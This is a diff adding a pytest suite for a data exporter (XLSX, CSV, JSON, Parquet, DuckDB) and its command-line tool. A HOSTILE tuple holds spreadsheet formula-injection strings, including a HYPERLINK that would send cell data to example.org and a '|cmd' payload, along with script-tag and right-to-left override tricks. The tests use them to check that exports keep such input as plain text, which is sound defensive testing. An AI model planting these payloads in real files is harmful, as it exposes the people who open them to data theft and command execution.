@@ -1,0 +1,458 @@
+"""Exports are what the Parquet says, in every form; text stays text, nothing foreign is touched."""
+
+import json
+import math
+import subprocess
+import zipfile
+from collections.abc import Mapping
+from dataclasses import replace
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import frictionless
+import openpyxl
+import pandas as pd
+import pyarrow as pa
+import pytest
+from typer.testing import CliRunner
+
+import audience_impact as ai
+from flows.cli.command import app
+from flows.exporting import ExportError, Form, content, export, plain, selection, sheets
+from flows.exporting.content import Content
+from flows.exporting.selection import Wanted
+from flows.exporting.workbook import Limits
+from flows.pipeline import steps
+from flows.publishing import versions
+from flows.publishing.versions import Stored
+from flows.site.rendering import visible
+from tests.support import small
+from tests.tools import program
+
+OWN_SHEETS = {"about", "columns", "values"}
+HOSTILE = (
+    "=1+1",
+    '=HYPERLINK("http://example.org/x?"&A1,"click")',
+    "+49 30 1234",
+    "-1+1|cmd",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "<script>alert(1)</script>",
+    "a \u202egnp.exe",
+    "red \x1b[31m",
+    "javascript:alert(1)",
+)
+
+
+@pytest.fixture(scope="module")
+def version(tmp_path_factory: pytest.TempPathFactory) -> Stored:
+    facts = small(tmp_path_factory.mktemp("facts") / "small")
+    results = steps.compute(steps.gate(steps.check(steps.read([facts])), strict=False), None, 0)
+    root = tmp_path_factory.mktemp("small-published")
+    steps.write(results, root, None)
+    return versions.latest(root)
+
+
+@pytest.fixture(scope="module")
+def everything(version: Stored) -> Content:
+    return content.read(version)
+
+
+@pytest.fixture(scope="module")
+def year_2025(repository_published: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The workbook of the world in 2025, of the repository's facts."""
+    path = tmp_path_factory.mktemp("workbook") / "2025.xlsx"
+    wanted = Wanted(year=2025)
+    export.export(versions.latest(repository_published), Form.XLSX, path, wanted)
+    return path
+
+
+def planted(everything: Content, column: str, text: str, table: str = "sources") -> Content:
+    """The content with a text in a column of the first row of a table."""
+    rows = everything.tables[table]
+    cells = [text, *rows[column].to_pylist()[1:]]
+    place = rows.column_names.index(column)
+    changed = rows.set_column(place, rows.schema.field(column), pa.array(cells, pa.string()))
+    return replace(everything, tables={**everything.tables, table: changed})
+
+
+def expected(cell: Any) -> Any:
+    """A published cell as the workbook shows it."""
+    if isinstance(cell, date):
+        return datetime(cell.year, cell.month, cell.day)
+    return visible(cell)
+
+
+def assert_same_cells(path: Path, tables: Mapping[str, pa.Table]) -> None:
+    """Every cell of every table is in the workbook, with its type."""
+    found = pd.read_excel(path, sheet_name=None, dtype="object", keep_default_na=False)
+    assert set(found) == {*tables, *OWN_SHEETS}
+    for name, table in tables.items():
+        assert list(found[name].columns) == table.column_names
+        for column in table.column_names:
+            shown = [None if cell == "" else cell for cell in found[name][column]]
+            wanted = [expected(cell) for cell in table[column].to_pylist()]
+            same = [_is_same(*pair) for pair in zip(shown, wanted, strict=True)]
+            assert all(same), f"{name}.{column}: {shown[same.index(False)]!r}"
+
+
+def _is_same(shown: Any, wanted: Any) -> bool:
+    if isinstance(wanted, float):
+        return isinstance(shown, float | int) and math.isclose(shown, wanted, rel_tol=1e-12)
+    return type(shown) is type(wanted) and bool(shown == wanted)
+
+
+def test_pandas_and_openpyxl_read_what_was_published(
+    year_2025: Path, repository_published: Path
+) -> None:
+    chosen = _chosen(repository_published, Wanted(year=2025))
+    assert sum(table.num_rows for table in chosen.tables.values()) > 2000
+    assert_same_cells(year_2025, chosen.tables)
+
+
+def test_libreoffice_opens_what_was_published(
+    year_2025: Path, repository_published: Path, tmp_path: Path
+) -> None:
+    made = through_libreoffice(year_2025, tmp_path)
+    assert_same_cells(made, _chosen(repository_published, Wanted(year=2025)).tables)
+    book = openpyxl.load_workbook(made)
+    assert book["impact"]["D1"].comment.text.startswith("at least so many people")
+
+
+def _chosen(root: Path, wanted: Wanted) -> Content:
+    version = versions.latest(root)
+    return selection.select(version, content.read(version), wanted)
+
+
+def through_libreoffice(path: Path, into: Path) -> Path:
+    """The workbook as LibreOffice saves it after it opened it."""
+    home = f"-env:UserInstallation={(into / 'home').as_uri()}"
+    words = ["--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir"]
+    command = [program("soffice"), home, *words, str(into / "out"), str(path)]
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    return into / "out" / path.name
+
+
+def test_a_cell_that_differs_is_seen(everything: Content, tmp_path: Path) -> None:
+    sheets.write(tmp_path / "a.xlsx", planted(everything, "publisher", "Another page"))
+    with pytest.raises(AssertionError, match=r"sources\.publisher"):
+        assert_same_cells(tmp_path / "a.xlsx", everything.tables)
+
+
+@pytest.fixture(scope="module")
+def hostile(everything: Content, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A workbook with each hostile text in a text, in a link and in what is chosen."""
+    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
+    rows = everything.tables["sources"].slice(0, 1)
+    many = pa.concat_tables([rows] * len(HOSTILE))
+    for column in ("publisher", "url"):
+        place = many.column_names.index(column)
+        field = many.schema.field(column)
+        many = many.set_column(place, field, pa.array(HOSTILE, pa.string()))
+    made = replace(
+        everything, tables={**everything.tables, "sources": many}, answers=HOSTILE, chosen="=1+1"
+    )
+    sheets.write(path, made)
+    return path
+
+
+def assert_text(path: Path) -> None:
+    book = openpyxl.load_workbook(path)
+    heads = [cell.value for cell in book["sources"][1]]
+    for name in ("publisher", "url"):
+        cells = [row[heads.index(name)] for row in book["sources"].iter_rows(min_row=2)]
+        assert [cell.value for cell in cells] == [visible(text) for text in HOSTILE]
+        assert {cell.data_type for cell in cells} == {"s"}
+        assert [cell.hyperlink for cell in cells] == [None] * len(HOSTILE)
+    for sheet in book:
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_hostile_text_is_text_to_openpyxl(hostile: Path) -> None:
+    assert_text(hostile)
+    book = openpyxl.load_workbook(hostile)
+    heads = [cell.value for cell in book["sources"][1]]
+    place = heads.index("publisher") + 1
+    marked = [book["sources"].cell(row, place).quotePrefix for row in range(2, 2 + len(HOSTILE))]
+    assert marked == [text.startswith(("=", "+", "-", "@")) for text in HOSTILE]
+    shown = [cell.value for row in book["about"].iter_rows() for cell in row]
+    assert set(map(visible, HOSTILE)) <= set(shown)
+
+
+def test_hostile_text_is_text_to_libreoffice(hostile: Path, tmp_path: Path) -> None:
+    assert_text(through_libreoffice(hostile, tmp_path))
+
+
+def test_a_formula_is_seen(tmp_path: Path) -> None:
+    book = openpyxl.Workbook()
+    book.active.title = "sources"
+    book.active.append(["publisher", "url"])
+    for text in HOSTILE:
+        book.active.append([visible(text), "x"])
+    book.save(tmp_path / "a.xlsx")
+    with pytest.raises(AssertionError):
+        assert_text(tmp_path / "a.xlsx")
+
+
+def test_a_sheet_says_what_it_is_and_cells_are_what_they_are(
+    version: Stored, tmp_path: Path
+) -> None:
+    path = tmp_path / "r1.xlsx"
+    export.export(version, Form.XLSX, path, Wanted(("R1",)))
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames[0] == "about"
+    told = "\n".join(str(cell.value) for row in book["about"].iter_rows() for cell in row)
+    for words in ("How many people", "R1", version.id, "Creative Commons", "90 % interval"):
+        assert words in told
+    for words in (
+        "How to cite",
+        "How to read",
+        "Frechet",
+        "quality, quarantine",
+        "Restriction R1. Licence CC-BY",
+    ):
+        assert words in told
+    impact = book["impact"]
+    heads = {cell.value: cell for cell in impact[1]}
+    lower = impact.cell(2, heads["lower_persons"].column)
+    assert (lower.data_type, lower.number_format) == ("n", "#,##0")
+    share = impact.cell(2, heads["lower_base_share"].column)
+    assert (share.data_type, share.number_format) == ("n", "0.0%")
+    day = impact.cell(2, heads["as_of"].column)
+    assert (day.is_date, day.number_format) == (True, "yyyy-mm-dd")
+    note = heads["obs_status"].comment.text
+    assert "U: low reliability" in note
+    assert "Unit: persons" in heads["lower_persons"].comment.text
+    assert impact.freeze_panes == "B2"
+    assert impact.auto_filter.ref == f"A1:AG{impact.max_row}"
+    links = [cell for cell in book["sources"]["D"] if cell.hyperlink]
+    assert [cell.hyperlink.target for cell in links] == [cell.value for cell in links]
+    assert "https://example.org/panel" in {cell.value for cell in links}
+    values = {tuple(row[:3]) for row in book["values"].iter_rows(values_only=True)}
+    assert ("feature", "voice_call", "voice calls") in values
+
+
+@pytest.mark.parametrize("form", Form)
+def test_the_same_version_gives_the_same_export(
+    version: Stored, tmp_path: Path, form: Form
+) -> None:
+    def put(name: str) -> dict[str, bytes]:
+        into = tmp_path / name / "export.zip"
+        if form not in (Form.CSV, Form.PARQUET):
+            into = into.with_suffix(f".{form}")
+        export.export(version, form, into, Wanted(area="XA"))
+        assert [one.name for one in into.parent.iterdir()] == [into.name]
+        return {into.name: into.read_bytes()}
+
+    one, two = put("one"), put("two")
+    if form is not Form.DUCKDB:  # whose files hold ids of their own
+        assert one == two
+
+
+def test_what_excel_cannot_hold_is_split_cut_and_said(everything: Content, tmp_path: Path) -> None:
+    rows = pa.concat_tables([everything.tables["sources"]] * 4).slice(0, 7)
+    made = replace(everything, tables={"sources": rows})
+    long = planted(made, "publisher", "x" * 101)
+    told = sheets.write(
+        tmp_path / "a.xlsx", long, Limits(rows=4, characters=100, address=10, links=2, name=12)
+    )
+    assert told == [
+        "sources has 7 rows, more than a sheet holds: it is spread over 3 sheets",
+        "sources (1): 1 texts were cut at 100 characters",
+    ]
+    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
+    own = [name for name in book.sheetnames if name not in OWN_SHEETS]
+    assert own == ["sources (1)", "sources (2)", "sources (3)"]
+    assert [book[name].max_row for name in own] == [4, 4, 2]
+    assert book["sources (1)"]["B2"].value == "x" * 97 + "..."
+    assert not any(cell.hyperlink for row in book["sources (1)"].iter_rows() for cell in row)
+    few = sheets.write(tmp_path / "b.xlsx", made, Limits(links=2))
+    assert few == ["sources: after 2 links addresses are plain text"]
+    linked = openpyxl.load_workbook(tmp_path / "b.xlsx")["sources"]
+    assert sum(1 for row in linked.iter_rows() for cell in row if cell.hyperlink) == 2
+
+
+def test_csv_is_exact_and_described(version: Stored, everything: Content, tmp_path: Path) -> None:
+    export.export(version, Form.CSV, tmp_path / "csv", Wanted())
+    for name, table in everything.tables.items():
+        read = pd.read_csv(tmp_path / "csv" / f"{name}.csv", dtype="str", keep_default_na=False)
+        frame = table.to_pandas(types_mapper=plain.NULLABLE.get).astype("str")
+        pd.testing.assert_frame_equal(
+            read.astype("object"),
+            frame.astype("object").where(table.to_pandas().notna(), ""),
+        )
+    report = frictionless.validate(str(tmp_path / "csv" / "datapackage.json"))
+    assert report.valid, report.flatten(["name", "type", "message"])
+    told = (tmp_path / "csv" / "README.txt").read_text("utf-8")
+    assert "exactly as published, also where it begins with = + - or @" in told
+    assert version.id in told
+    hostile = plain.csv_files(planted(everything, "publisher", "=1+1"))["sources.csv"]
+    assert b",=1+1," in hostile
+
+
+def test_json_is_exact_and_described(everything: Content) -> None:
+    told = json.loads(plain.json_file(everything))
+    assert list(told["tables"]) == list(everything.tables)
+    for name, table in everything.tables.items():
+        rows = json.loads(json.dumps(table.to_pylist(), default=str))
+        assert told["tables"][name]["rows"] == rows
+        columns = told["tables"][name]["columns"]
+        assert [column["name"] for column in columns] == table.column_names
+    assert told["version"] == everything.version_id
+
+
+def test_parquet_is_the_files_themselves_or_rows_of_them(version: Stored, tmp_path: Path) -> None:
+    export.export(version, Form.PARQUET, tmp_path / "all", Wanted())
+    for path in (tmp_path / "all").glob("*.parquet"):
+        assert path.read_bytes() == version.content(path.name)
+    export.export(version, Form.PARQUET, tmp_path / "part", Wanted(("R1",)))
+    tables = ai.load(tmp_path / "part")
+    assert isinstance(tables, dict)
+    assert tables["impact"].attrs["columns"]["obs_status"]["values"]["A"].startswith("normal")
+    assert set(tables["impact"]["restriction_id"]) == {"R1"}
+    assert frictionless.validate(str(tmp_path / "part" / "datapackage.json")).valid
+
+
+def test_duckdb_has_the_tables_and_their_comments(
+    version: Stored, everything: Content, tmp_path: Path
+) -> None:
+    export.export(version, Form.DUCKDB, tmp_path / "a.duckdb", Wanted())
+    with duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True) as base:
+        for name, table in everything.tables.items():
+            read = base.sql(f'SELECT * FROM "{name}"').to_arrow_table()
+            assert read.to_pylist() == table.to_pylist()
+        noted = base.execute(
+            "SELECT count(*) FROM duckdb_columns() WHERE comment IS NULL AND NOT internal "
+            "AND table_name NOT IN ('about', 'column_values')"
+        ).fetchall()
+        comments = base.execute("SELECT table_name, comment FROM duckdb_tables()").fetchall()
+        (meaning,) = base.execute(
+            "SELECT meaning FROM column_values WHERE \"column\" = 'feature' "
+            "AND value = 'voice_call'"
+        ).fetchall()[0]
+    assert noted == [(0,)]
+    told = dict(comments)
+    assert all(told[name] for name in everything.tables)
+    assert meaning == "voice calls"
+
+
+def test_the_restrictions_of_an_area_and_year_are_those_that_it_counts(
+    repository_published: Path,
+) -> None:
+    version = versions.latest(repository_published)
+    every = content.read(version)
+    rows = every.tables["impact_by_area"].to_pandas()
+    years = rows[rows["period"].str.len() == 4].drop_duplicates("area_id", keep="last")
+    assert len(years) > 50
+    for row in years.itertuples():
+        made = selection.chosen_restrictions(every, Wanted(area=row.area_id, year=int(row.period)))
+        assert len(made) == row.restrictions_count, f"{row.area_id} {row.period}"
+
+
+def test_an_area_and_year_is_its_rows_and_its_answer(repository_published: Path) -> None:
+    made = _chosen(repository_published, Wanted(area="africa", year=2023))
+    assert made.title.endswith("Africa, 2023")
+    (answer,) = made.answers
+    assert answer.startswith("In 2023 about ")
+    frames = {name: table.to_pandas() for name, table in made.tables.items()}
+    assert set(frames["impact_by_area"]["period"].str[:4]) == {"2023"}
+    assert "002" in set(frames["impact_by_area"]["area_id"])
+    assert set(frames["person_days"]["period"].str[:4]) == {"2023", "all"}
+    assert "all" in set(frames["person_days"]["restriction_id"])
+    acts = set(frames["restrictions"]["restriction_id"])
+    assert set(frames["impact"]["restriction_id"]) == acts
+    named = {*frames["lineage"]["source_id"], *frames["restrictions"]["source_id"]}
+    assert named <= set(frames["sources"]["source_id"])
+    assert made.left_out == ("quality", "quarantine")
+
+
+def run(*words: str | Path) -> tuple[int, str]:
+    """Exit status and what was said."""
+    done = CliRunner().invoke(app, ["export", *map(str, words)])
+    assert done.exception is None or isinstance(done.exception, SystemExit)
+    return done.exit_code, done.output
+
+
+def test_the_command_writes_and_says_where(version: Stored, tmp_path: Path) -> None:
+    root, into = Path(version.store.address), tmp_path / "new" / "r1.xlsx"
+    words = ("--format", "xlsx", "--published", root, "--into", into)
+    assert run(*words) == (0, f"wrote version {version.id}\n{into}\n")
+    assert run(*words)[0] == 0, "the same again is no other file"
+    into.write_bytes(b"mine")
+    code, told = run(*words)
+    assert (code, into.read_bytes()) == (1, b"mine")
+    assert told == f"{into} is there already: give another name, or --overwrite\n"
+    assert run(*words, "--overwrite")[0] == 0
+    assert [one.name for one in into.parent.iterdir()] == ["r1.xlsx"]
+
+
+def test_a_folder_with_something_else_is_left_alone(version: Stored, tmp_path: Path) -> None:
+    root, into = Path(version.store.address), tmp_path / "out"
+    words = ("--format", "csv", "--published", root, "--into", into)
+    into.mkdir()
+    assert run(*words)[0] == 0, "an empty folder is free"
+    (into / "impact.csv").write_text("edited", "utf-8")
+    code, told = run(*words)
+    assert code == 1
+    assert "--overwrite" in told
+    assert run(*words, "--overwrite")[0] == 0
+    (into / "mine.txt").write_text("mine", "utf-8")
+    code, told = run(*words, "--overwrite")
+    assert code == 1
+    assert "holds mine.txt, which no such export writes" in told
+    assert (into / "mine.txt").read_text("utf-8") == "mine"
+    assert run("--format", "json", "--published", root, "--into", into)[0] == 1
+    assert run("--format", "csv", "--published", root, "--into", into / "mine.txt")[0] == 1
+    assert sorted(one.name for one in tmp_path.iterdir()) == ["out"]
+
+
+@pytest.mark.parametrize(
+    ("words", "said"),
+    [
+        (("--restriction", "R11"), "R11 is not published; did you mean R1?"),
+        (("--restriction", "zzz"), "zzz is not published; see audience-impact list"),
+        (("--area", "Rusia"), "no area on record: give a code such as RU or 002; did you mean R"),
+        (("--area", "RU"), "no restriction on record for Russia"),
+        (("--area", "XA", "--year", "1999"), "no restriction on record for "),
+    ],
+)
+def test_what_is_not_published_is_said_in_a_line(
+    version: Stored, tmp_path: Path, words: tuple[str, ...], said: str
+) -> None:
+    root, into = Path(version.store.address), tmp_path / "a.xlsx"
+    code, told = run("--format", "xlsx", "--published", root, "--into", into, *words)
+    assert code == 1
+    assert said in told
+    assert told.count("\n") == 1
+    assert not into.exists()
+
+
+def test_called_wrongly(tmp_path: Path) -> None:
+    assert run("--format", "ods", "--into", tmp_path / "a")[0] == 2
+    assert run("--format", "xlsx", "--into", "s3://bucket/a.xlsx")[0] == 2
+    code, told = run("--format", "xlsx", "--into", tmp_path / "a.xlsx", "--published", tmp_path)
+    assert (code, told.count("\n")) == (1, 1)
+
+
+def test_a_workbook_that_excel_would_not_open_is_refused(version: Stored, tmp_path: Path) -> None:
+    with pytest.raises(ExportError, match=r"a\.csv does not end in \.xlsx"):
+        export.export(version, Form.XLSX, tmp_path / "a.csv", Wanted())
+
+
+def test_a_disk_that_refuses_is_told(version: Stored, tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("mine", "utf-8")
+    with pytest.raises(ExportError, match=r"cannot write .*a\.json"):
+        export.export(version, Form.JSON, tmp_path / "file" / "a.json", Wanted())
+    with pytest.raises(ExportError, match=r"cannot write .*folder"):
+        export.export(version, Form.CSV, tmp_path / "file" / "folder", Wanted())
+
+
+def test_an_archive_holds_the_same_files(version: Stored, tmp_path: Path) -> None:
+    export.export(version, Form.CSV, tmp_path / "a.zip", Wanted(("R1",)))
+    export.export(version, Form.CSV, tmp_path / "a", Wanted(("R1",)))
+    with zipfile.ZipFile(tmp_path / "a.zip") as made:
+        packed = {name: made.read(name) for name in made.namelist()}
+    assert packed == {one.name: one.read_bytes() for one in (tmp_path / "a").iterdir()}
